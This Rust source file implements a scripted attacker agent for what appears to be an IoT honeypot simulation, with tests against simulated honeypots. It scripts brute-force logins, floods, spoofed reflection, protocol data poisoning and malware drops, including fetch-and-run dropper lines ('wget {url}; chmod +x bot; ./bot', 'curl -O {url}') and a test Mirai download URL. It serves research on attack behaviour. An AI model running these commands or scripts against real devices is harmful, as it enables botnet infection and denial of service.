//! The script-driven attacker engine.
//!
//! An [`AttackerAgent`] owns a schedule of [`Task`]s — (time, target,
//! script) triples — and executes each script as an event-driven client
//! state machine speaking real `ofh-wire` bytes. Every attack behaviour the
//! paper observes is one of the [`AttackScript`] variants.

use std::collections::HashMap;
use std::net::Ipv4Addr;

use ofh_intel::MalwareSample;
use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SimTime, SockAddr};
use ofh_wire::coap::{Code, Message};
use ofh_wire::ftp::Command as FtpCommand;
use ofh_wire::mqtt::Packet;
use ofh_wire::smb::{command as smb_cmd, SmbMessage};
use ofh_wire::ssdp::msearch_all;
use ofh_wire::xmpp::client_stream_open;
use ofh_wire::{http, ports};

/// One attack behaviour against one target.
#[derive(Debug, Clone, PartialEq)]
pub enum AttackScript {
    /// Bare TCP connect + close (reconnaissance / scanning probe).
    SynProbe { port: u16 },
    /// Telnet credential brute force; on success optionally drop malware
    /// (the dropper command names `url`, then the binary bytes follow).
    TelnetBruteForce {
        port: u16,
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
    },
    /// SSH brute force over the simplified-SSH framing (see
    /// `ofh-honeypots::deployed`): `AUTH user pass` lines.
    SshBruteForce {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
    },
    /// MQTT: unauthenticated CONNECT, then poison `topic` (None = snoop
    /// `$SYS/#` instead — the paper's most-targeted topics).
    MqttAttack { poison_topic: Option<String> },
    /// AMQP: handshake then publish-flood `frames` body frames.
    AmqpFlood { frames: u32 },
    /// XMPP: anonymous SASL login, then an `<iq type='set'>` state change.
    XmppAnonToggle,
    /// CoAP discovery (`/.well-known/core`) over UDP.
    CoapDiscovery,
    /// CoAP PUT data poisoning.
    CoapPoison,
    /// SSDP `ssdp:discover` over UDP.
    UpnpDiscovery,
    /// UDP flood of `packets` datagrams to `port` (the §5.1.3 DoS).
    UdpFlood { port: u16, packets: u32, payload_len: usize },
    /// Spoofed-source reflection trigger: send `packets` discovery probes to
    /// the target (a reflector) with the victim's address as source.
    ReflectionTrigger { victim: SockAddr, packets: u32 },
    /// One HTTP GET (scraping / recon).
    HttpGet { path: String },
    /// HTTP request flood (`requests` back-to-back requests).
    HttpFlood { requests: u32 },
    /// FTP login + STOR of a malware binary (§5.1.5 Mozi/Lokibot).
    FtpUploadMalware {
        credentials: (String, String),
        sample: MalwareSample,
    },
    /// SMB negotiate + Trans2 exploit carrying a payload (§5.1.5 Eternal* →
    /// WannaCry).
    SmbEternal { sample: MalwareSample },
    /// S7 PDU-type-1 job flood (§5.1.4, ICSA-16-299-01).
    S7JobFlood { jobs: u32 },
    /// Modbus register read + poisoning write (§5.1.4).
    ModbusTamper,
}

impl AttackScript {
    /// Static label for metrics/tracing.
    pub const fn kind_name(&self) -> &'static str {
        match self {
            AttackScript::SynProbe { .. } => "syn_probe",
            AttackScript::TelnetBruteForce { .. } => "telnet_brute_force",
            AttackScript::SshBruteForce { .. } => "ssh_brute_force",
            AttackScript::MqttAttack { .. } => "mqtt_attack",
            AttackScript::AmqpFlood { .. } => "amqp_flood",
            AttackScript::XmppAnonToggle => "xmpp_anon_toggle",
            AttackScript::CoapDiscovery => "coap_discovery",
            AttackScript::CoapPoison => "coap_poison",
            AttackScript::UpnpDiscovery => "upnp_discovery",
            AttackScript::UdpFlood { .. } => "udp_flood",
            AttackScript::ReflectionTrigger { .. } => "reflection_trigger",
            AttackScript::HttpGet { .. } => "http_get",
            AttackScript::HttpFlood { .. } => "http_flood",
            AttackScript::FtpUploadMalware { .. } => "ftp_upload_malware",
            AttackScript::SmbEternal { .. } => "smb_eternal",
            AttackScript::S7JobFlood { .. } => "s7_job_flood",
            AttackScript::ModbusTamper => "modbus_tamper",
        }
    }
}

/// A scheduled attack.
#[derive(Debug, Clone)]
pub struct Task {
    pub at: SimTime,
    pub dst: Ipv4Addr,
    pub script: AttackScript,
}

/// Per-connection execution state.
#[derive(Debug)]
enum Running {
    SynProbe,
    TelnetLogin {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
        next_cred: usize,
        stage: LoginStage,
    },
    SshLogin {
        credentials: Vec<(String, String)>,
        dropper: Option<(String, MalwareSample)>,
        next_cred: usize,
        identified: bool,
    },
    Mqtt {
        poison_topic: Option<String>,
        connected: bool,
    },
    Amqp {
        frames: u32,
        started: bool,
    },
    Xmpp {
        opened: bool,
        authed: bool,
    },
    Http {
        remaining: u32,
        path: String,
    },
    Ftp {
        credentials: (String, String),
        sample: MalwareSample,
        stage: u8,
    },
    Smb {
        sample: MalwareSample,
        negotiated: bool,
    },
    S7 {
        jobs: u32,
        sent: bool,
    },
    Modbus {
        sent: bool,
    },
}

#[derive(Debug, Clone, Copy, PartialEq)]
enum LoginStage {
    SendUser,
    SendPass,
    Shell,
    Dropped,
}

/// The generic attacker agent.
pub struct AttackerAgent {
    tasks: Vec<Task>,
    running: HashMap<ConnToken, Running>,
    /// Count of completed tasks (diagnostics).
    pub completed: u64,
    /// Successful logins achieved (bot propagation metric).
    pub logins: u64,
}

impl AttackerAgent {
    pub fn new(mut tasks: Vec<Task>) -> AttackerAgent {
        // Schedule in time order; timers are set at boot.
        tasks.sort_by_key(|t| t.at);
        AttackerAgent {
            tasks,
            running: HashMap::new(),
            completed: 0,
            logins: 0,
        }
    }

    fn launch(&mut self, ctx: &mut NetCtx<'_>, idx: usize) {
        let task = self.tasks[idx].clone();
        let dst = task.dst;
        ofh_obs::count_l("attack.task.launched", task.script.kind_name(), 1);
        ofh_obs::span(
            "attack.task",
            task.script.kind_name(),
            ctx.now().0,
            ctx.now().0,
            u32::from(ctx.my_addr()),
            u32::from(dst),
            0,
            0,
        );
        match task.script {
            AttackScript::SynProbe { port } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, port));
                self.running.insert(conn, Running::SynProbe);
            }
            AttackScript::TelnetBruteForce {
                port,
                credentials,
                dropper,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, port));
                self.running.insert(
                    conn,
                    Running::TelnetLogin {
                        credentials,
                        dropper,
                        next_cred: 0,
                        stage: LoginStage::SendUser,
                    },
                );
            }
            AttackScript::SshBruteForce {
                credentials,
                dropper,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::SSH));
                self.running.insert(
                    conn,
                    Running::SshLogin {
                        credentials,
                        dropper,
                        next_cred: 0,
                        identified: false,
                    },
                );
            }
            AttackScript::MqttAttack { poison_topic } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::MQTT));
                self.running.insert(
                    conn,
                    Running::Mqtt {
                        poison_topic,
                        connected: false,
                    },
                );
            }
            AttackScript::AmqpFlood { frames } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::AMQP));
                self.running.insert(conn, Running::Amqp { frames, started: false });
            }
            AttackScript::XmppAnonToggle => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::XMPP_CLIENT));
                self.running.insert(
                    conn,
                    Running::Xmpp {
                        opened: false,
                        authed: false,
                    },
                );
            }
            AttackScript::CoapDiscovery => {
                let probe = Message::well_known_core_request(0x42);
                ctx.udp_send(43_000, SockAddr::new(dst, ports::COAP), probe.encode());
                self.completed += 1;
            }
            AttackScript::CoapPoison => {
                let mut put = Message::well_known_core_request(0x43);
                put.code = Code::PUT;
                put.payload = b"poisoned-value".to_vec();
                ctx.udp_send(43_000, SockAddr::new(dst, ports::COAP), put.encode());
                self.completed += 1;
            }
            AttackScript::UpnpDiscovery => {
                ctx.udp_send(43_001, SockAddr::new(dst, ports::SSDP), msearch_all().into_bytes());
                self.completed += 1;
            }
            AttackScript::UdpFlood {
                port,
                packets,
                payload_len,
            } => {
                let payload = vec![0xA5u8; payload_len];
                for _ in 0..packets {
                    ctx.udp_send(43_002, SockAddr::new(dst, port), payload.clone());
                }
                self.completed += 1;
            }
            AttackScript::ReflectionTrigger { victim, packets } => {
                let probe = msearch_all().into_bytes();
                for _ in 0..packets {
                    ctx.udp_send_spoofed(victim, SockAddr::new(dst, ports::SSDP), probe.clone());
                }
                self.completed += 1;
            }
            AttackScript::HttpGet { path } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::HTTP));
                self.running.insert(conn, Running::Http { remaining: 1, path });
            }
            AttackScript::HttpFlood { requests } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::HTTP));
                self.running.insert(
                    conn,
                    Running::Http {
                        remaining: requests,
                        path: "/".into(),
                    },
                );
            }
            AttackScript::FtpUploadMalware {
                credentials,
                sample,
            } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::FTP));
                self.running.insert(
                    conn,
                    Running::Ftp {
                        credentials,
                        sample,
                        stage: 0,
                    },
                );
            }
            AttackScript::SmbEternal { sample } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::SMB));
                self.running.insert(
                    conn,
                    Running::Smb {
                        sample,
                        negotiated: false,
                    },
                );
            }
            AttackScript::S7JobFlood { jobs } => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::S7));
                self.running.insert(conn, Running::S7 { jobs, sent: false });
            }
            AttackScript::ModbusTamper => {
                let conn = ctx.tcp_connect(SockAddr::new(dst, ports::MODBUS));
                self.running.insert(conn, Running::Modbus { sent: false });
            }
        }
    }

    fn finish(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, close: bool) {
        if self.running.remove(&conn).is_some() {
            self.completed += 1;
            if close {
                ctx.tcp_close(conn);
            }
        }
    }
}

impl Agent for AttackerAgent {
    fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
        let now = ctx.now();
        for (i, task) in self.tasks.iter().enumerate() {
            ctx.set_timer(task.at.since(now), i as u64);
        }
    }

    fn on_timer(&mut self, ctx: &mut NetCtx<'_>, token: u64) {
        let idx = token as usize;
        if idx < self.tasks.len() {
            self.launch(ctx, idx);
        }
    }

    fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        match self.running.get_mut(&conn) {
            Some(Running::SynProbe) => {
                // Recon done: the port is open.
                self.finish(ctx, conn, true);
            }
            Some(Running::Mqtt { .. }) => {
                ctx.tcp_send(
                    conn,
                    Packet::Connect {
                        client_id: "bot".into(),
                        username: None,
                        password: None,
                        keep_alive: 30,
                        clean_session: true,
                    }
                    .encode(),
                );
            }
            Some(Running::Amqp { .. }) => {
                ctx.tcp_send(conn, ofh_wire::amqp::PROTOCOL_HEADER.to_vec());
            }
            Some(Running::Xmpp { .. }) => {
                ctx.tcp_send(conn, client_stream_open("target").into_bytes());
            }
            Some(Running::Http { path, .. }) => {
                let req = http::Request::get(path);
                ctx.tcp_send(conn, req.render());
            }
            Some(Running::Smb { .. }) => {
                ctx.tcp_send(conn, SmbMessage::negotiate_request().encode());
            }
            Some(Running::S7 { jobs, sent }) => {
                let n = *jobs;
                *sent = true;
                for i in 0..n {
                    let job = ofh_wire::s7::S7Message::job(
                        i as u16,
                        ofh_wire::s7::function::READ_VAR,
                        &[],
                    );
                    ctx.tcp_send(conn, job.encode());
                }
            }
            Some(Running::Modbus { sent }) => {
                *sent = true;
                ctx.tcp_send(conn, ofh_wire::modbus::Frame::read_holding_registers(1, 0, 8).encode());
                ctx.tcp_send(conn, ofh_wire::modbus::Frame::write_single_register(2, 0, 0xDEAD).encode());
                // Invalid function code — 90% of observed Modbus traffic.
                ctx.tcp_send(
                    conn,
                    ofh_wire::modbus::Frame {
                        transaction_id: 3,
                        unit_id: 1,
                        function: 0x63,
                        data: vec![],
                    }
                    .encode(),
                );
            }
            // Telnet/SSH/FTP wait for the server banner first.
            _ => {}
        }
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let text = String::from_utf8_lossy(data).into_owned();
        enum Act {
            None,
            Send(Vec<Vec<u8>>),
            Finish,
        }
        let mut act = Act::None;
        match self.running.get_mut(&conn) {
            Some(Running::TelnetLogin {
                credentials,
                dropper,
                next_cred,
                stage,
            }) => {
                let visible =
                    String::from_utf8_lossy(&ofh_wire::telnet::visible_text(data)).into_owned();
                match *stage {
                    LoginStage::SendUser => {
                        if *next_cred >= credentials.len() {
                            act = Act::Finish;
                        } else {
                            let user = credentials[*next_cred].0.clone();
                            *stage = LoginStage::SendPass;
                            act = Act::Send(vec![format!("{user}\n").into_bytes()]);
                        }
                    }
                    LoginStage::SendPass => {
                        let pass = credentials[*next_cred].1.clone();
                        *next_cred += 1;
                        *stage = LoginStage::Shell; // optimistic; verified on next data
                        act = Act::Send(vec![format!("{pass}\n").into_bytes()]);
                    }
                    LoginStage::Shell => {
                        let success = visible.contains('$')
                            || visible.contains('#')
                            || visible.contains("Welcome");
                        if success {
                            let mut sends = Vec::new();
                            if let Some((url, sample)) = dropper.take() {
                                sends.push(
                                    format!("wget {url}; chmod +x bot; ./bot\n").into_bytes(),
                                );
                                sends.push(sample.payload);
                            }
                            *stage = LoginStage::Dropped;
                            act = if sends.is_empty() {
                                Act::Finish
                            } else {
                                Act::Send(sends)
                            };
                            self.logins += 1;
                        } else if visible.contains("incorrect") || visible.contains("login:") {
                            *stage = LoginStage::SendUser;
                            // Re-enter the loop on the next banner chunk.
                            if *next_cred >= credentials.len() {
                                act = Act::Finish;
                            } else {
                                let user = credentials[*next_cred].0.clone();
                                *stage = LoginStage::SendPass;
                                act = Act::Send(vec![format!("{user}\n").into_bytes()]);
                            }
                        }
                    }
                    LoginStage::Dropped => act = Act::Finish,
                }
            }
            Some(Running::SshLogin {
                credentials,
                dropper,
                next_cred,
                identified,
            }) => {
                if !*identified && text.starts_with("SSH-") {
                    *identified = true;
                    act = Act::Send(vec![b"SSH-2.0-bot\n".to_vec()]);
                } else if text.contains("KEXINIT") || (!*identified && !text.is_empty()) {
                    *identified = true;
                    if *next_cred < credentials.len() {
                        let (u, p) = credentials[*next_cred].clone();
                        *next_cred += 1;
                        act = Act::Send(vec![format!("AUTH {u} {p}\n").into_bytes()]);
                    } else {
                        act = Act::Finish;
                    }
                } else if text.contains("OK") {
                    let mut sends = vec![b"uname -a\n".to_vec()];
                    if let Some((url, sample)) = dropper.take() {
                        sends.push(format!("curl -O {url}\n").into_bytes());
                        sends.push(sample.payload);
                    }
                    self.logins += 1;
                    act = Act::Send(sends);
                } else if text.contains("DENIED") {
                    if *next_cred < credentials.len() {
                        let (u, p) = credentials[*next_cred].clone();
                        *next_cred += 1;
                        act = Act::Send(vec![format!("AUTH {u} {p}\n").into_bytes()]);
                    } else {
                        act = Act::Finish;
                    }
                } else if text.contains("not found") || text.starts_with('#') {
                    act = Act::Finish;
                }
            }
            Some(Running::Mqtt {
                poison_topic,
                connected,
            }) => {
                if !*connected && text_is_connack(data) {
                    *connected = true;
                    let packet = match poison_topic.take() {
                        Some(topic) => Packet::Publish {
                            topic,
                            packet_id: None,
                            payload: b"poisoned".to_vec(),
                            qos: 0,
                            retain: true,
                        },
                        None => Packet::Subscribe {
                            packet_id: 1,
                            topics: vec![("$SYS/#".into(), 0)],
                        },
                    };
                    act = Act::Send(vec![packet.encode(), Packet::Disconnect.encode()]);
                } else if *connected {
                    act = Act::Finish;
                }
            }
            Some(Running::Amqp { frames, started }) => {
                if !*started {
                    *started = true;
                    let mut sends = Vec::new();
                    for _ in 0..*frames {
                        sends.push(
                            ofh_wire::amqp::Frame {
                                frame_type: ofh_wire::amqp::frame_type::BODY,
                                channel: 1,
                                payload: b"flood".to_vec(),
                            }
                            .encode(),
                        );
                    }
                    act = Act::Send(sends);
                } else {
                    act = Act::Finish;
                }
            }
            Some(Running::Xmpp { opened, authed }) => {
                if !*opened && text.contains("<stream:") {
                    *opened = true;
                    act = Act::Send(vec![
                        b"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='ANONYMOUS'/>"
                            .to_vec(),
                    ]);
                } else if !*authed && text.contains("<success") {
                    *authed = true;
                    act = Act::Send(vec![b"<iq type='set'><light state='off'/></iq>".to_vec()]);
                } else if text.contains("<failure") || text.contains("<iq type='result'") {
                    act = Act::Finish;
                }
            }
            Some(Running::Http { remaining, path }) => {
                *remaining = remaining.saturating_sub(1);
                if *remaining == 0 {
                    act = Act::Finish;
                } else {
                    let req = http::Request::get(path);
                    act = Act::Send(vec![req.render()]);
                }
            }
            Some(Running::Ftp {
                credentials,
                sample,
                stage,
            }) => {
                match (*stage, text.get(..3)) {
                    (0, Some("220")) => {
                        *stage = 1;
                        act = Act::Send(vec![FtpCommand::new("USER", Some(&credentials.0))
                            .render()
                            .into_bytes()]);
                    }
                    (1, Some("331")) => {
                        *stage = 2;
                        act = Act::Send(vec![FtpCommand::new("PASS", Some(&credentials.1))
                            .render()
                            .into_bytes()]);
                    }
                    (2, Some("230")) => {
                        *stage = 3;
                        self.logins += 1;
                        act = Act::Send(vec![FtpCommand::new("STOR", Some("payload.bin"))
                            .render()
                            .into_bytes()]);
                    }
                    (3, Some("150")) => {
                        *stage = 4;
                        act = Act::Send(vec![sample.payload.clone()]);
                    }
                    (4, Some("226")) => act = Act::Finish,
                    (_, Some("530")) | (_, Some("502")) => act = Act::Finish,
                    _ => {}
                }
            }
            Some(Running::Smb { sample, negotiated }) => {
                if !*negotiated {
                    *negotiated = true;
                    let exploit = SmbMessage {
                        command: smb_cmd::TRANS2,
                        status: 0,
                        flags2: 0xC853,
                        mid: 64,
                        data: sample.payload.clone(),
                    };
                    act = Act::Send(vec![exploit.encode()]);
                } else {
                    act = Act::Finish;
                }
            }
            Some(Running::S7 { .. }) | Some(Running::Modbus { .. }) => {
                // Replies received; flood/tamper complete.
                act = Act::Finish;
            }
            _ => {}
        }
        match act {
            Act::None => {}
            Act::Send(msgs) => {
                for m in msgs {
                    ctx.tcp_send(conn, m);
                }
            }
            Act::Finish => self.finish(ctx, conn, true),
        }
    }

    fn on_tcp_refused(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }

    fn on_tcp_timeout(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }

    fn on_tcp_closed(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.finish(ctx, conn, false);
    }
}

fn text_is_connack(data: &[u8]) -> bool {
    matches!(
        Packet::decode(data),
        Ok((
            Packet::ConnAck {
                return_code: ofh_wire::mqtt::ConnectReturnCode::Accepted,
                ..
            },
            _
        ))
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_honeypots::{CowrieHoneypot, DionaeaHoneypot, EventKind, HosTaGeHoneypot, UPotHoneypot};
    use ofh_intel::{MalwareFamily, MalwareRegistry, MalwareSample};
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    fn run_against_cowrie(tasks: Vec<Task>) -> ofh_honeypots::EventLog {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 10);
        let hid = net.attach(haddr, Box::new(CowrieHoneypot::new()));
        net.attach(ip(16, 30, 0, 1), Box::new(AttackerAgent::new(tasks)));
        net.run_until(SimTime(600_000));
        let h = net.agent_downcast_mut::<CowrieHoneypot>(hid).unwrap();
        std::mem::take(&mut h.log)
    }

    #[test]
    fn telnet_bot_bruteforces_and_drops_mirai() {
        let sample = MalwareSample::synthesize(MalwareFamily::Mirai, 7);
        let log = run_against_cowrie(vec![Task {
            at: SimTime(1_000),
            dst: ip(16, 1, 0, 10),
            script: AttackScript::TelnetBruteForce {
                port: 23,
                credentials: vec![
                    ("root".into(), "wrong1".into()),
                    ("admin".into(), "admin".into()),
                ],
                dropper: Some(("http://16.30.0.1/mirai.arm7".into(), sample.clone())),
            },
        }]);
        // Credentials logged; the failed pair first.
        let attempts: Vec<bool> = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt { success, .. } => Some(*success),
                _ => None,
            })
            .collect();
        assert!(attempts.contains(&true), "attempts: {attempts:?}");
        // The dropped binary is identifiable as Mirai variant 7.
        let reg = MalwareRegistry::standard(16);
        let dropped = log.events.iter().find_map(|e| match &e.kind {
            EventKind::PayloadDrop { payload, .. } if !payload.is_empty() => Some(payload.clone()),
            _ => None,
        });
        let dropped = dropped.expect("binary captured");
        assert_eq!(reg.identify(&dropped).unwrap().variant, 7);
    }

    #[test]
    fn ssh_bot_auths_with_dictionary() {
        let log = run_against_cowrie(vec![Task {
            at: SimTime(1_000),
            dst: ip(16, 1, 0, 10),
            script: AttackScript::SshBruteForce {
                credentials: vec![
                    ("admin".into(), "bad".into()),
                    ("root".into(), "root".into()),
                ],
                dropper: None,
            },
        }]);
        let (fails, wins): (Vec<_>, Vec<_>) = log
            .events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::LoginAttempt { success, .. } => Some(*success),
                _ => None,
            })
            .partition(|s| !*s);
        assert_eq!(fails.len(), 1);
        assert_eq!(wins.len(), 1);
    }

    #[test]
    fn udp_flood_hits_upot() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 14);
        let hid = net.attach(haddr, Box::new(UPotHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 2),
            Box::new(AttackerAgent::new(vec![
                Task {
                    at: SimTime(500),
                    dst: haddr,
                    script: AttackScript::UpnpDiscovery,
                },
                Task {
                    at: SimTime(1_000),
                    dst: haddr,
                    script: AttackScript::UdpFlood {
                        port: 1900,
                        packets: 40,
                        payload_len: 64,
                    },
                },
            ])),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast::<UPotHoneypot>(hid).unwrap();
        let discoveries = h.log.events.iter().filter(|e| matches!(e.kind, EventKind::Discovery)).count();
        let floods = h.log.events.iter().filter(|e| matches!(e.kind, EventKind::Datagram { .. })).count();
        assert_eq!(discoveries, 1);
        assert_eq!(floods, 40);
    }

    #[test]
    fn ftp_upload_reaches_dionaea() {
        let sample = MalwareSample::synthesize(MalwareFamily::Lokibot, 1);
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 12);
        let hid = net.attach(haddr, Box::new(DionaeaHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 3),
            Box::new(AttackerAgent::new(vec![Task {
                at: SimTime(500),
                dst: haddr,
                script: AttackScript::FtpUploadMalware {
                    credentials: ("admin".into(), "admin".into()),
                    sample: sample.clone(),
                },
            }])),
        );
        net.run_until(SimTime(120_000));
        let h = net.agent_downcast::<DionaeaHoneypot>(hid).unwrap();
        let dropped = h.log.events.iter().find_map(|e| match &e.kind {
            EventKind::PayloadDrop { payload, .. } if !payload.is_empty() => Some(payload.clone()),
            _ => None,
        });
        assert_eq!(dropped.unwrap(), sample.payload);
    }

    #[test]
    fn multiprotocol_scripts_against_hostage() {
        let mut net = SimNet::new(SimNetConfig::default());
        let haddr = ip(16, 1, 0, 11);
        let hid = net.attach(haddr, Box::new(HosTaGeHoneypot::new()));
        net.attach(
            ip(16, 30, 0, 4),
            Box::new(AttackerAgent::new(vec![
                Task {
                    at: SimTime(100),
                    dst: haddr,
                    script: AttackScript::MqttAttack {
                        poison_topic: Some("arduino/config".into()),
                    },
                },
                Task {
                    at: SimTime(200),
                    dst: haddr,
                    script: AttackScript::CoapDiscovery,
                },
                Task {
                    at: SimTime(300),
                    dst: haddr,
                    script: AttackScript::AmqpFlood { frames: 5 },
                },
                Task {
                    at: SimTime(400),
                    dst: haddr,
                    script: AttackScript::HttpGet { path: "/login".into() },
                },
                Task {
                    at: SimTime(500),
                    dst: haddr,
                    script: AttackScript::SmbEternal {
                        sample: MalwareSample::synthesize(MalwareFamily::WannaCry, 0),
                    },
                },
            ])),
        );
        net.run_until(SimTime(300_000));
        let h = net.agent_downcast::<HosTaGeHoneypot>(hid).unwrap();
        let kinds: Vec<&EventKind> = h.log.events.iter().map(|e| &e.kind).collect();
        assert!(kinds.iter().any(|k| matches!(k, EventKind::DataWrite { target } if target == "arduino/config")));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::Discovery)));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::HttpRequest { .. })));
        assert!(kinds.iter().any(|k| matches!(k, EventKind::ExploitSignature { .. })));
        let amqp_writes = h
            .log
            .events
            .iter()
            .filter(|e| e.protocol == ofh_wire::Protocol::Amqp && matches!(e.kind, EventKind::DataWrite { .. }))
            .count();
        assert_eq!(amqp_writes, 5);
    }

    #[test]
    fn reflection_trigger_is_spoofed() {
        use ofh_devices::endpoints::UpnpDevice;
        use ofh_devices::Misconfig;
        use ofh_wire::ssdp::DeviceDescription;

        struct Victim {
            hits: u64,
        }
        impl Agent for Victim {
            fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, _d: &Payload) {
                self.hits += 1;
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let reflector = ip(16, 40, 0, 1);
        net.attach(
            reflector,
            Box::new(UpnpDevice::new(
                Some(Misconfig::UpnpReflection),
                "MiniUPnPd/1.4",
                DeviceDescription::default(),
            )),
        );
        let vid = net.attach(ip(16, 40, 0, 2), Box::new(Victim { hits: 0 }));
        net.attach(
            ip(16, 30, 0, 5),
            Box::new(AttackerAgent::new(vec![Task {
                at: SimTime(100),
                dst: reflector,
                script: AttackScript::ReflectionTrigger {
                    victim: SockAddr::new(ip(16, 40, 0, 2), 1900),
                    packets: 10,
                },
            }])),
        );
        net.run_until(SimTime(60_000));
        // All reflected responses landed on the victim, not the attacker.
        assert_eq!(net.agent_downcast::<Victim>(vid).unwrap().hits, 10);
    }
}
